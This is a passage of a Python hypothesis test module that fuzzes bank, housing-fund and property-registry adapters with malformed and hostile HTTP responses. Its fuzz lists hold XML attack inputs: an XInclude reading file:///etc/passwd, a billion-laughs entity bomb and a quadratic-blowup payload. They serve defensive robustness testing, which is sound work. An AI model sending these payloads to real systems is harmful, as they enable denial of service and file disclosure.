"""Hostile institutions: every built-in adapter against answers no institution should send.

Each built-in adapter's ``inquire``, ``poll`` (bank), ``submit`` and ``control_status`` is
driven through an ``httpx.AsyncClient`` on an ``httpx.MockTransport`` that answers with
hypothesis-generated statuses, headers and bodies: arbitrary bytes; the realistic answers of
``tests/adapters`` mutated byte by byte and field by field (other JSON values, XML text,
deep nesting, huge and negative numbers, NaN and infinities, impossible dates, any unicode,
GBK-invalid bytes, BOMs, lying declarations); XML with DTDs, entities and external
references; garbage ``Retry-After``, ``Content-Encoding``, ``Content-Type`` and
``Content-Length``; connections that fail half-way through the body.

The property, for every call: it returns a well-formed answer (records that pass
:func:`assetquery.testing.assert_normalized`, and the invariants below) or raises an
:class:`~assetquery.adapters.AdapterError` subclass, never anything else; the error's code
and message carry neither the party's ID number or name nor the account the request named,
and the message stays under 500 characters; an HTTP error status is classified by the
status; and the call finishes within five seconds.

Every input that once broke an adapter is kept below as a regression test with its minimal
example.
"""

from __future__ import annotations

import asyncio
import contextlib
import copy
import functools
import json
import re
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable
from dataclasses import dataclass, field
from datetime import date
from typing import Any
from xml.etree import ElementTree

import defusedxml.ElementTree as SafeElementTree
import httpx
import pytest
from hypothesis import HealthCheck, currently_in_test_context, event, example, given, settings
from hypothesis import strategies as st

from assetquery._config import InstitutionSettings
from assetquery._http._transport import build_client
from assetquery._models import ResultStatus
from assetquery._money import Money
from assetquery.adapters import (
    Adapter,
    AdapterError,
    ControlRequest,
    ControlState,
    ControlStatus,
    InquiryAnswer,
    InquiryRequest,
    Institution,
    InstitutionFailure,
    InstitutionRejected,
    InstitutionTimeout,
    InstitutionUnavailable,
    InstitutionUnreachable,
    Operation,
)
from assetquery.adapters._bank import BankAdapter
from assetquery.adapters._housing_fund import HousingFundAdapter
from assetquery.adapters._realestate import RealEstateRegistryAdapter
from assetquery.testing import assert_normalized, sample_case, sample_person

from ..strategies import (
    hostile_text,
    json_values,
    raw_json_tokens,
    time_limit,
)

BASE_URL = "https://institution.test"
INSTITUTION = Institution(id="hostile-test", name="测试机构")
#: the client is built as the dispatcher builds it (size cap included) around the mock
CLIENT_SETTINGS = InstitutionSettings(
    id=INSTITUTION.id, name=INSTITUTION.name, adapter="any", base_url=BASE_URL
)
PARTY = sample_person()  # 张三, 110105199003071239
CASE = sample_case()
INQUIRY = InquiryRequest(party=PARTY, case=CASE, request_id="req-0001")
BANK_ACCOUNT = "6217000012345678901"
FUND_ACCOUNT = "620100123456789"
UNIT = "620102003001GB00012F00010023"
#: what the request carries that must never appear in an error
PERSONAL = (PARTY.id_number, PARTY.name, BANK_ACCOUNT, FUND_ACCOUNT)
MESSAGE_LIMIT = 500
SECONDS = 5.0
XML_TYPE = "text/xml; charset=GBK"
JSON_TYPE = "application/json"


# --- realistic answers (copied small from tests/adapters) -----------------------------------------

REGISTRY_UNITS = f"""
<Bdcdy><Bdcdyh>{UNIT}</Bdcdyh><Bdcqzh>甘（2019）兰州市不动产权第0012345号</Bdcqzh>
  <Zl>兰州市城关区示例路88号3单元502室</Zl><Mj>96.52</Mj><Yt>住宅</Yt><Djsj>20190510</Djsj>
  <Gyfs>按份共有</Gyfs>
  <Qlr><Mc>李四</Mc><Zjh>620102198501010013</Zjh><Fe>1/2</Fe></Qlr>
  <Qlr><Mc>{PARTY.name}</Mc><Zjh>{PARTY.id_number}</Zjh><Fe>1/2</Fe></Qlr>
  <Dyxx><Dyqr>示例银行兰州分行</Dyqr><Bdbzqse>350000.00</Bdbzqse>
        <Qssj>20190515</Qssj><Jssj>20390514</Jssj></Dyxx>
  <Cfxx><Cfjg>兰州市城关区人民法院</Cfjg><Cfwh>（2023）甘0102执567号</Cfwh><Cflx>查封</Cflx>
        <Qssj>20230801</Qssj><Jssj>20260731</Jssj></Cfxx>
  <Cfxx><Cfjg>兰州市七里河区人民法院</Cfjg><Cfwh>（2024）甘0103执89号</Cfwh>
        <Cflx>轮候查封</Cflx><Qssj>20240110</Qssj><Lhsx>2</Lhsx></Cfxx>
</Bdcdy>
<Bdcdy><Bdcdyh>620102003001GB00012W00000105</Bdcdyh><Yt>车位</Yt><Gyfs>单独所有</Gyfs>
  <Qlr><Mc>{PARTY.name}</Mc><Zjh>{PARTY.id_number}</Zjh></Qlr></Bdcdy>"""


def registry_found(code: str = "0000") -> str:
    return (
        "<CxResponse><Head><Ywh>BDC-20240506-000123</Ywh><Jgdm>"
        + code
        + "</Jgdm><Jgxx>查询成功</Jgxx><Cxsj>20240506101530</Cxsj></Head>"
        + (f"<Fcxx>{REGISTRY_UNITS}</Fcxx>" if code == "0000" else "")
        + "</CxResponse>"
    )


def registry_control(code: str = "0000") -> str:
    return (
        "<KzResponse><Head><Ywh>seal-0001</Ywh><Jgdm>"
        + code
        + "</Jgdm><Jgxx>办理成功</Jgxx><Cxsj>20250310093000</Cxsj></Head>"
        + "<Kz><Kzbh>KZ-7</Kzbh><Czlx>CF</Czlx><Zt>LH</Zt><Qssj>20250310</Qssj>"
        + "<Jssj>20280309</Jssj><Lhsx>3</Lhsx><Sm>查封登记已办结</Sm></Kz></KzResponse>"
    )


def gbk_xml(text: str) -> bytes:
    """XML as registries send it: declared and encoded GBK."""
    return ('<?xml version="1.0" encoding="GBK"?>\n' + text).encode("gbk", "xmlcharrefreplace")


def fund_found() -> dict[str, Any]:
    return {
        "code": "0000",
        "msg": "查询成功",
        "ywlsh": "GJJ-20240506-000077",
        "cxsj": "2024-05-06 10:15:30",
        "data": {
            "zhxx": [
                {
                    "grzh": FUND_ACCOUNT,
                    "xm": PARTY.name,
                    "zjhm": PARTY.id_number,
                    "zhye": 8654321,
                    "djje": 2000000,
                    "zhzt": "04",
                    "dwmc": "甘肃示例科技有限公司",
                    "khrq": "2012-07-01",
                    "djxx": [
                        {"djjg": "兰州市城关区人民法院", "ah": "（2023）甘0102执567号",
                         "djje": 2000000, "qsrq": "2023-08-01", "jsrq": "2024-07-31"},
                        {"djjg": "兰州市七里河区人民法院", "ah": "（2024）甘0103执89号",
                         "djje": 500000, "qsrq": "2024-01-10", "jsrq": None, "lhsx": 1},
                    ],
                }
            ]
        },
    }  # fmt: skip


def fund_control() -> dict[str, Any]:
    return {
        "code": "0000",
        "msg": "办理成功",
        "ywlsh": "gjj-0001",
        "cxsj": "2025-03-10 09:30:00",
        "data": {"djbh": "DJ-42", "czlx": "DJ", "zt": "02", "sxrq": "2025-03-10",
                 "jsrq": "2028-03-09", "je": 2500050, "lhsx": None, "sm": None},
    }  # fmt: skip


def bank_found() -> dict[str, Any]:
    return {
        "requestId": "req-0001",
        "state": "COMPLETED",
        "completedAt": "2024-05-06T10:15:30+08:00",
        "accounts": [
            {
                "accountNo": BANK_ACCOUNT,
                "accountName": PARTY.name,
                "accountType": "借记卡",
                "currency": "CNY",
                "balance": "52340.18",
                "status": "NORMAL",
                "branch": "兰州城关支行",
                "openedOn": "2015-03-20",
                "holds": [
                    {"type": "FREEZE", "authority": "兰州市城关区人民法院",
                     "caseNo": "（2023）甘0102执567号", "amount": "40000.00",
                     "from": "2023-08-01", "to": "2024-07-31", "queue": None},
                    {"type": "WAITING_FREEZE", "authority": "兰州市七里河区人民法院",
                     "amount": "100.00", "queue": 2},
                ],
            }
        ],
    }  # fmt: skip


BANK_ACCEPTED = {"requestId": "req-0001", "state": "ACCEPTED", "ticket": "TK-42",
                 "pollAfterSeconds": 600}  # fmt: skip
BANK_PROCESSING = {"requestId": "req-0001", "state": "PROCESSING", "ticket": "TK-42"}


def bank_control() -> dict[str, Any]:
    return {
        "controlId": "FZ-0001",
        "idempotencyKey": "ctl-0001",
        "operation": "FREEZE",
        "state": "EFFECTIVE",
        "effectiveDate": "2025-03-10",
        "endDate": "2026-03-09",
        "amount": "12345.67",
        "currency": "CNY",
        "queue": None,
        "message": "可冻结余额不足，实际冻结 12345.67",
    }


def as_json(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


# --- the calls ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    """A realistic answer: status, content type and body as the institution sends them."""

    status: int
    content_type: str
    body: bytes


@dataclass(frozen=True)
class Call:
    """One adapter method with its request, and realistic answers to it."""

    label: str
    adapter: Adapter
    invoke: Callable[[httpx.AsyncClient], Awaitable[InquiryAnswer | ControlStatus]]
    samples: tuple[Sample, ...]
    #: a status the call reads as an answer instead of an error, and the states it may give
    reads: dict[int, frozenset[ControlState]] = field(default_factory=dict)

    @property
    def is_xml(self) -> bool:
        return isinstance(self.adapter, RealEstateRegistryAdapter)

    def __repr__(self) -> str:  # hypothesis prints this in falsifying examples
        return f"<{self.label}>"


def _control(operation: Operation, kind: str, identifier: str, key: str, **extra: Any) -> Any:
    return ControlRequest(
        operation=operation,
        idempotency_key=key,
        party=PARTY,
        case=CASE,
        asset_kind=kind,
        asset_identifier=identifier,
        **extra,
    )


REGISTRY = RealEstateRegistryAdapter(INSTITUTION)
FUND = HousingFundAdapter(INSTITUTION)
BANK = BankAdapter(INSTITUTION)
SEAL = _control(Operation.SEAL, "real_estate", UNIT, "seal-0001", live_seal=True)
FUND_FREEZE = _control(
    Operation.FREEZE, "housing_fund", FUND_ACCOUNT, "gjj-0001", amount=Money("30000.00")
)
BANK_FREEZE = _control(
    Operation.FREEZE, "bank_account", BANK_ACCOUNT, "ctl-0001", amount=Money("50000.00")
)

CALLS = (
    Call(
        "realestate.inquire",
        REGISTRY,
        lambda client: REGISTRY.inquire(client, INQUIRY),
        (
            Sample(200, XML_TYPE, gbk_xml(registry_found())),
            Sample(200, XML_TYPE, gbk_xml(registry_found("0001"))),
        ),
    ),
    Call(
        "realestate.submit",
        REGISTRY,
        lambda client: REGISTRY.submit(client, SEAL),
        (Sample(200, XML_TYPE, gbk_xml(registry_control())),),
    ),
    Call(
        "realestate.control_status",
        REGISTRY,
        lambda client: REGISTRY.control_status(client, SEAL),
        (
            Sample(200, XML_TYPE, gbk_xml(registry_control())),
            Sample(200, XML_TYPE, gbk_xml(registry_control("0001"))),
        ),
    ),
    Call(
        "housing_fund.inquire",
        FUND,
        lambda client: FUND.inquire(client, INQUIRY),
        (Sample(200, JSON_TYPE, as_json(fund_found())),),
    ),
    Call(
        "housing_fund.submit",
        FUND,
        lambda client: FUND.submit(client, FUND_FREEZE),
        (Sample(200, JSON_TYPE, as_json(fund_control())),),
    ),
    Call(
        "housing_fund.control_status",
        FUND,
        lambda client: FUND.control_status(client, FUND_FREEZE),
        (
            Sample(200, JSON_TYPE, as_json(fund_control())),
            Sample(200, JSON_TYPE, as_json({"code": "0001", "msg": "无此业务"})),
        ),
    ),
    Call(
        "bank.inquire",
        BANK,
        lambda client: BANK.inquire(client, INQUIRY),
        (
            Sample(200, JSON_TYPE, as_json(bank_found())),
            Sample(202, JSON_TYPE, as_json(BANK_ACCEPTED)),
        ),
    ),
    Call(
        "bank.poll",
        BANK,
        lambda client: BANK.poll(client, "TK-42", INQUIRY),
        (
            Sample(200, JSON_TYPE, as_json(bank_found())),
            Sample(200, JSON_TYPE, as_json(BANK_PROCESSING)),
        ),
    ),
    Call(
        "bank.submit",
        BANK,
        lambda client: BANK.submit(client, BANK_FREEZE),
        (
            Sample(200, JSON_TYPE, as_json(bank_control())),
            Sample(409, JSON_TYPE, as_json({"errorCode": "IDEMPOTENCY_CONFLICT"})),
        ),
    ),
    Call(
        "bank.control_status",
        BANK,
        lambda client: BANK.control_status(client, BANK_FREEZE),
        (
            Sample(200, JSON_TYPE, as_json(bank_control())),
            Sample(404, JSON_TYPE, as_json({"errorCode": "NOT_FOUND"})),
        ),
        reads={404: frozenset({ControlState.UNKNOWN})},
    ),
)
JSON_CALLS = tuple(call for call in CALLS if not call.is_xml)
XML_CALLS = tuple(call for call in CALLS if call.is_xml)


# --- serving an answer ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Served:
    """What the mocked institution answers: status, raw headers and body.

    ``failure``, when set, is raised by the connection: at once if ``fail_after`` is None,
    else after that many bytes of the body have been sent.
    """

    status: int
    headers: tuple[tuple[bytes, bytes], ...]
    body: bytes
    failure: type[httpx.TransportError] | None = None
    fail_after: int | None = None

    def texts(self) -> list[str]:
        """Every reading of what was served, to tell an echo of it in a message."""
        readings = [self.body.decode(codec, "replace") for codec in ("utf-8", "gb18030")]
        readings += [value.decode("latin-1") for _, value in self.headers]
        with contextlib.suppress(ValueError, RecursionError):
            readings.append(json.dumps(json.loads(self.body), ensure_ascii=False))
        try:
            root = SafeElementTree.fromstring(_decoded_xml(self.body))
            readings += [element.tag for element in root.iter()]
            readings.append("".join(root.itertext()))
        except Exception:  # anything defusedxml refuses is simply not a reading
            pass
        return readings


def _decoded_xml(body: bytes) -> str | bytes:
    found = re.match(rb"""\s*<\?xml[^>]*encoding=["']([A-Za-z0-9_.-]+)""", body)
    if found is None:
        return body
    try:
        return re.sub(r"^\s*<\?xml[^>]*\?>", "", body.decode(found[1].decode(), "replace"))
    except LookupError:
        return body


class _Body(httpx.AsyncByteStream):
    """A body that arrives in chunks, and may break off with a transport error."""

    def __init__(self, served: Served) -> None:
        self.served = served

    async def __aiter__(self) -> AsyncIterator[bytes]:
        body, failure, cut = self.served.body, self.served.failure, self.served.fail_after
        sent = body if cut is None else body[:cut]
        for start in range(0, len(sent), 4096):
            yield sent[start : start + 4096]
        if failure is not None:
            raise failure("connection lost half-way through the answer")


def _transport(served: Served) -> httpx.MockTransport:
    def answer(request: httpx.Request) -> httpx.Response:
        if served.failure is not None and served.fail_after is None:
            raise served.failure("refused", request=request)
        # Streamed, as a real transport delivers it (build_client wraps it in its size cap).
        return httpx.Response(served.status, headers=list(served.headers), stream=_Body(served))

    return httpx.MockTransport(answer)


Outcome = InquiryAnswer | ControlStatus | BaseException


def run(call: Call, served: Served) -> Outcome:
    """Drive ``call`` against ``served``: its answer, or whatever it raised."""

    async def exchange() -> InquiryAnswer | ControlStatus:
        async with build_client(CLIENT_SETTINGS, _transport(served)) as client:
            return await asyncio.wait_for(call.invoke(client), SECONDS)

    started = time.monotonic()
    with time_limit(2 * SECONDS, f"{call.label} hung"):
        try:
            return asyncio.run(exchange())
        except TimeoutError as error:
            if time.monotonic() - started >= SECONDS:
                raise AssertionError(f"{call.label} did not finish in {SECONDS:g} s") from error
            return error
        except Exception as error:
            return error


class Violation(AssertionError):
    """The property does not hold."""


def _expected_error(call: Call, status: int) -> type[AdapterError] | None:
    """The error an HTTP error status stands for (``check_status``'s mapping)."""
    if status < 400 or status in call.reads:
        return None
    if status in (429, 502, 503, 504):
        return InstitutionUnavailable
    return InstitutionRejected if status < 500 else InstitutionFailure


def judge(call: Call, served: Served, outcome: Outcome) -> None:
    """Raise :class:`Violation` unless ``outcome`` is a well-formed answer or a clean error."""
    status_arrived = served.failure is None or served.fail_after is not None
    expected = _expected_error(call, served.status) if status_arrived else None
    if isinstance(outcome, BaseException):
        if not isinstance(outcome, AdapterError):
            raise Violation(
                f"{call.label} let {type(outcome).__name__} escape: {outcome!r}"
            ) from outcome
        _judge_error(call, served, outcome)
        if expected is not None and not isinstance(outcome, expected):
            raise Violation(
                f"{call.label}: HTTP {served.status} gave {outcome!r}, not {expected.__name__}"
            )
        return
    if expected is not None:
        raise Violation(f"{call.label}: HTTP {served.status} was read as an answer: {outcome}")
    if isinstance(outcome, InquiryAnswer):
        _judge_answer(call, outcome)
    elif isinstance(outcome, ControlStatus):
        _judge_control(call, served, outcome)
    else:
        raise Violation(f"{call.label} returned a {type(outcome).__name__}")


def _judge_error(call: Call, served: Served, error: AdapterError) -> None:
    text = f"{error.code} {error.message}"
    for value in PERSONAL:
        if value in text:
            raise Violation(
                f"{call.label}: {type(error).__name__} carries personal data {value!r}: "
                f"{text[:300]!r}"
            )
    if len(error.message) >= MESSAGE_LIMIT:
        raise Violation(
            f"{call.label}: a {len(error.message)}-character message: {error.message[:200]!r}"
        )
    if error.retryable and getattr(error, "retry_after", None) is not None:
        wait = error.retry_after  # type: ignore[attr-defined]
        if not wait >= 0:  # also refuses NaN
            raise Violation(f"{call.label}: Retry-After became {wait!r} seconds")


def _judge_answer(call: Call, answer: InquiryAnswer) -> None:
    adapter = call.adapter
    if answer.status is ResultStatus.OK and not answer.assets:
        raise Violation(f"{call.label}: ok with no assets")
    if answer.status is not ResultStatus.OK and answer.assets:
        raise Violation(f"{call.label}: {answer.status.value} with assets")
    if answer.status is ResultStatus.PENDING:
        if not answer.ticket:
            raise Violation(f"{call.label}: pending without a ticket")
        if answer.poll_after is not None and not answer.poll_after >= 0:
            raise Violation(f"{call.label}: poll again in {answer.poll_after} seconds")
    for i, record in enumerate(answer.assets):
        try:
            assert_normalized(
                record,
                INSTITUTION.id,
                adapter.asset_kinds,
                adapter_name=adapter.name,
                label=f"assets[{i}]",
            )
        except AssertionError as problem:
            raise Violation(f"{call.label}: {problem}") from None
        for encumbrance in record.encumbrances:
            _not_negative(call, "an encumbrance amount", encumbrance.amount)
        if isinstance(adapter, HousingFundAdapter):
            # The centre's balance and frozen amounts are counts of fen held: never negative,
            # and what the adapter computes as available never exceeds the balance.
            _not_negative(call, "a fund balance", record.value)
            value, available = record.value, record.available
            if value is not None and available is not None and available > value:
                raise Violation(
                    f"{call.label}: available {record.available} exceeds the balance {record.value}"
                )


def _judge_control(call: Call, served: Served, status: ControlStatus) -> None:
    if served.status in call.reads and status.state not in call.reads[served.status]:
        raise Violation(f"{call.label}: HTTP {served.status} read as {status.state}")
    needs_reference = status.state not in (ControlState.REJECTED, ControlState.UNKNOWN)
    if needs_reference and not status.reference:
        raise Violation(f"{call.label}: {status.state} without the institution's reference")
    if status.waiting_position is not None and status.waiting_position < 1:
        raise Violation(f"{call.label}: waiting position {status.waiting_position}")
    for day in (status.effective_on, status.ends_on):
        if day is not None and not isinstance(day, date):
            raise Violation(f"{call.label}: a date that is a {type(day).__name__}")
    if status.amount is not None:
        if not status.amount.amount.is_finite():
            raise Violation(f"{call.label}: amount {status.amount}")
        _not_negative(call, "a controlled amount", status.amount)


def _not_negative(call: Call, what: str, money: Money | None) -> None:
    if money is not None and money.amount < 0:
        raise Violation(f"{call.label}: {what} of {money}")


def check(call: Call, served: Served) -> None:
    """The property, strictly: any violation fails."""
    outcome = run(call, served)
    if currently_in_test_context():  # the statistics show what the inputs reached
        kind = type(outcome).__name__
        event(f"outcome: {outcome.status.value if isinstance(outcome, InquiryAnswer) else kind}")
    judge(call, served, outcome)


# --- strategies -----------------------------------------------------------------------------------

STATUSES = st.sampled_from([200, 200, 200, 202, 404, 409, 429, 500, 503]) | st.integers(0, 999)


def header_values() -> st.SearchStrategy[bytes]:
    return st.binary(max_size=40) | st.sampled_from(
        [b"", b"\xb2", b"\xb9\xb2", b"-1", b"0", b"1e3", b"9" * 400, b"9" * 5000, b"NaN"]
    )


RETRY_AFTER = (
    st.sampled_from(
        [
            b"120",
            b" 7 ",
            b"\xb2",
            b"\xb3\xb3",
            b"9" * 400,
            b"-5",
            b"1.5",
            b"inf",
            b"Wed, 21 Oct 2015 07:28:00 GMT",
            b"Fri, 31 Dec 9999 23:59:59 GMT",
            b"Mon, 01 Jan 0001 00:00:00 GMT",
            b"Wed, 21 Oct 2015 07:28:00 -0000",
            b"Wed, 21 Oct 15 07:28:00",
            b"Wed, 32 Oct 2015 25:61:61 GMT",
            b"Wed, 21 Oct 2015 07:28:00 +9999",
            b"\xff\xfe",
        ]
    )
    | header_values()
)
CONTENT_ENCODING = (
    st.sampled_from(
        [b"gzip", b"deflate", b"br", b"zstd", b"identity", b"gzip, gzip", b"x-unknown", b"\xff"]
    )
    | header_values()
)
CONTENT_TYPE = (
    st.sampled_from(
        [
            b"application/json",
            b"application/json; charset=gbk",
            b"text/xml; charset=GBK",
            b"text/xml; charset=utf-16",
            b"text/xml; charset=rot13",
            b"text/xml; charset=hex",
            b"text/xml; charset=" + b"x" * 1000,
            b"text/html",
            b"multipart/form-data; boundary=x",
            b";;;",
        ]
    )
    | header_values()
)
CONTENT_LENGTH = (
    st.sampled_from([b"0", b"1", b"99999999999999999999", b"abc", b"-1", b"\xb2", b"9" * 5000])
    | header_values()
)


@st.composite
def headers(draw: st.DrawFn, content_type: str | None = None) -> tuple[tuple[bytes, bytes], ...]:
    """Response headers: usually the right content type, plus any number of lies."""
    chosen: list[tuple[bytes, bytes]] = []
    if content_type is not None and draw(st.booleans()):
        chosen.append((b"content-type", content_type.encode()))
    lies = st.sampled_from(
        [
            (b"retry-after", RETRY_AFTER),
            (b"content-encoding", CONTENT_ENCODING),
            (b"content-type", CONTENT_TYPE),
            (b"content-length", CONTENT_LENGTH),
            (b"x-anything", header_values()),
        ]
    )
    for name, values in draw(st.lists(lies, max_size=3)):
        chosen.append((name, draw(values)))
    return tuple(chosen)


@st.composite
def arbitrary_answers(draw: st.DrawFn) -> Served:
    return Served(draw(STATUSES), draw(headers()), draw(st.binary(max_size=2000)))


BOMS = (b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\x84\x31\x95\x33")
GBK_INVALID = (b"\x81", b"\xff", b"\x80", b"\x81\x20", b"\xa1", b"\xfe\x7f", b"\x84\x31")


@st.composite
def byte_mutations(draw: st.DrawFn, sample: Sample) -> bytes:
    """``sample``'s body with 1-4 edits: truncation, deletion, duplication, insertion."""
    body = bytearray(sample.body)
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(body)))
        to = draw(st.integers(at, min(len(body), at + 200)))
        edit = draw(st.sampled_from(["truncate", "delete", "duplicate", "insert", "flip"]))
        if edit == "truncate":
            del body[at:]
        elif edit == "delete":
            del body[at:to]
        elif edit == "duplicate":
            body[to:to] = body[at:to] * draw(st.integers(1, 50))
        elif edit == "insert":
            junk = st.binary(min_size=1, max_size=8) | st.sampled_from(BOMS + GBK_INVALID)
            body[at:at] = draw(junk)
        elif body:
            body[min(at, len(body) - 1)] ^= draw(st.integers(1, 255))
    return bytes(body)


@st.composite
def mutated_answers(draw: st.DrawFn, call: Call) -> Served:
    sample = draw(st.sampled_from(call.samples))
    return Served(sample.status, draw(headers(sample.content_type)), draw(byte_mutations(sample)))


# JSON: replace, delete or add fields, with any JSON value or raw text json.dumps never writes.

_MARKER = "\x00raw{}\x00"


def _json_paths(value: Any, path: tuple[Any, ...] = ()) -> Iterable[tuple[Any, ...]]:
    yield path
    if isinstance(value, dict):
        for key, child in value.items():
            yield from _json_paths(child, (*path, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            yield from _json_paths(child, (*path, index))


@functools.cache
def hostile_json_value() -> st.SearchStrategy[Any]:
    personal = st.sampled_from([*PERSONAL, f"证件号 {PARTY.id_number} 户名 {PARTY.name}"])
    long_text = st.sampled_from(["x" * 2000, "9" * 600, PARTY.id_number * 40])
    return json_values() | personal | long_text


@st.composite
def json_field_mutations(draw: st.DrawFn, call: Call) -> Served:
    sample = draw(st.sampled_from(call.samples))
    document: Any = json.loads(sample.body)
    raw: dict[str, str] = {}
    for n in range(draw(st.integers(1, 3))):
        path = draw(st.sampled_from(list(_json_paths(document))))
        edit = draw(st.sampled_from(["replace", "raw", "delete", "add"]))
        if edit == "raw":
            marker = _MARKER.format(n)
            raw[marker] = draw(raw_json_tokens())
            value: Any = marker
        else:
            value = draw(hostile_json_value())
        if not path:
            document = value if edit in ("replace", "raw") else document
            continue
        *parents, last = path
        parent = document
        for step in parents:
            parent = parent[step]
        if edit == "delete":
            del parent[last]
        elif edit == "add" and isinstance(parent, dict):
            parent[draw(hostile_text(max_size=10))] = value
        else:
            parent[last] = value
    text = json.dumps(document, ensure_ascii=draw(st.booleans()), allow_nan=True)
    for marker, token in raw.items():
        text = text.replace(json.dumps(marker), token)
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "utf-16", "gb18030"]))
    errors = "replace" if encoding == "gb18030" else "surrogatepass"
    return Served(sample.status, draw(headers(sample.content_type)), text.encode(encoding, errors))


# XML: replace text, delete, duplicate or rename elements, add attributes, splice in raw markup.

XML_TEXTS = st.sampled_from(
    [
        "99999999",
        "00000000",
        "00010101000000",
        "99991231235959",
        "20240230",
        "²",
        "٣",
        "１２",
        "9" * 5000,
        "0",
        "-1",
        "1/0",
        "0/1",
        "2/1",
        "-1/2",
        "1／2",
        "1/" + "9" * 5000,
        "1e40",
        "-350000.00",
        "NaN",
        "Infinity",
        "sNaN",
        "0001",
        "9001",
        "1009",
        "JJ",
        "SL",
        "轮候查封",
        "共同共有",
        "单独所有",
        "x" * 2000,
        f"证件号 {PARTY.id_number} 户名 {PARTY.name}",
        *PERSONAL,
    ]
)
XML_TAGS = st.sampled_from(
    ["Head", "Jgdm", "Kz", "Fcxx", "Bdcdy", "Qlr", "Zt", "x", "ns:Zt", f"X{PARTY.id_number}"]
)
RAW_XML = st.sampled_from(
    [
        "<!-- a comment -->",
        "<?pi instruction?>",
        "<![CDATA[1/2]]>",
        "&amp;",
        "&#0;",
        "&#x110000;",
        "&undefined;",
        "]]>",
        "<![CDATA[",
        "<a>" * 3000 + "</a>" * 3000,
        "<a>" * 100_000 + "</a>" * 100_000,
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
        "<Bdcdy/>" * 2000,
        "\x00",
        "\ufeff",
    ]
)
XML_ENCODINGS = st.sampled_from(
    [
        ("GBK", "gbk"),
        ("GB18030", "gb18030"),
        ("gb2312", "gbk"),
        ("UTF-8", "utf-8"),
        (None, "utf-8"),
        (None, "gbk"),  # undeclared GBK: read as UTF-8
        ("GBK", "utf-8"),  # a declaration that lies
        ("UTF-8", "gbk"),
        ("UTF-16", "utf-16"),
        ("ISO-8859-1", "utf-8"),
        ("utf-7", "utf-8"),
    ]
)


@st.composite
def xml_field_mutations(draw: st.DrawFn, call: Call) -> Served:
    sample = draw(st.sampled_from(call.samples))
    text = re.sub(r"^<\?xml[^>]*\?>\s*", "", sample.body.decode("gbk"))
    root = ElementTree.fromstring(text)  # our own sample: trusted
    raw: dict[str, str] = {}
    for n in range(draw(st.integers(1, 3))):
        elements = list(root.iter())
        parents = {child: parent for parent in elements for child in parent}
        element = draw(st.sampled_from(elements))
        parent = parents.get(element)
        edit = draw(st.sampled_from(["text", "text", "delete", "duplicate", "rename", "raw"]))
        if edit == "text":
            element.text = draw(XML_TEXTS | hostile_text(surrogates=True))
        elif edit == "delete" and parent is not None:
            parent.remove(element)
        elif edit == "duplicate" and parent is not None:
            for _ in range(draw(st.integers(1, 20))):
                parent.append(copy.deepcopy(element))
        elif edit == "rename":
            # A tag that opens with "{" is a namespace URI to ElementTree, and cannot be written.
            element.tag = draw(XML_TAGS | hostile_text(max_size=8).filter(lambda t: t[:1] != "{"))
        elif edit == "raw":
            marker = f"RAWMARKER{n}"
            raw[marker] = draw(RAW_XML)
            element.text = marker
        else:
            element.set(draw(st.sampled_from(["a", "xmlns", "xml:lang"])), draw(hostile_text()))
    document = ElementTree.tostring(root, encoding="unicode")
    for marker, markup in raw.items():
        document = document.replace(marker, markup)
    declared, codec = draw(XML_ENCODINGS)
    if declared is not None:
        document = f'<?xml version="1.0" encoding="{declared}"?>\n{document}'
    body = document.encode(codec, "xmlcharrefreplace")
    if draw(st.integers(0, 9)) == 0:
        body = draw(st.sampled_from(BOMS)) + body
    return Served(sample.status, draw(headers(sample.content_type)), body)


# --- the properties -------------------------------------------------------------------------------

RUN = settings(deadline=None, max_examples=120, suppress_health_check=[HealthCheck.too_slow])


@pytest.mark.parametrize("call", CALLS, ids=lambda call: call.label)
def test_realistic_answers_are_read(call: Call) -> None:
    """The unmutated samples give answers: the mutation tests start from valid ground."""
    for sample in call.samples:
        served = Served(
            sample.status, ((b"content-type", sample.content_type.encode()),), sample.body
        )
        outcome = run(call, served)
        if sample.status < 400:
            assert isinstance(outcome, InquiryAnswer | ControlStatus), outcome
        judge(call, served, outcome)


@RUN
@given(call=st.sampled_from(CALLS), served=arbitrary_answers())
def test_arbitrary_bytes_with_any_status(call: Call, served: Served) -> None:
    """Any bytes, any status 0-999, lying headers: an answer or an AdapterError, quickly."""
    check(call, served)


@RUN
@given(data=st.data(), call=st.sampled_from(CALLS))
def test_byte_mutations_of_realistic_answers(data: st.DataObject, call: Call) -> None:
    """Real answers truncated, cut, repeated, spliced with BOMs and GBK-invalid bytes."""
    check(call, data.draw(mutated_answers(call)))


@settings(RUN, max_examples=200)
@given(data=st.data(), call=st.sampled_from(JSON_CALLS))
def test_json_fields_replaced_by_hostile_values(data: st.DataObject, call: Call) -> None:
    """Fund and bank answers with fields replaced, removed or added: every JSON type, NaN,
    infinities, 4000-digit and 1e999999 numbers, negative fen, 100 000-deep nesting,
    impossible dates, any unicode, personal data, in UTF-8, BOM, UTF-16 or GB18030."""
    check(call, data.draw(json_field_mutations(call)))


@settings(RUN, max_examples=200)
@given(data=st.data(), call=st.sampled_from(XML_CALLS))
def test_xml_fields_replaced_by_hostile_text(data: st.DataObject, call: Call) -> None:
    """Registry answers with text replaced (dates, shares, positions, amounts, personal data),
    elements removed, repeated or renamed, raw markup spliced in (100 000-deep nesting,
    bad character references, CDATA, XInclude), declared and encoded in lying encodings."""
    check(call, data.draw(xml_field_mutations(call)))


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]><CxResponse>&lol9;</CxResponse>"
)
HOSTILE_XML = {
    "billion_laughs": BILLION_LAUGHS,
    "quadratic_blowup": '<!DOCTYPE q [<!ENTITY a "'
    + "a" * 50_000
    + '">]><CxResponse>'
    + "&a;" * 1000
    + "</CxResponse>",
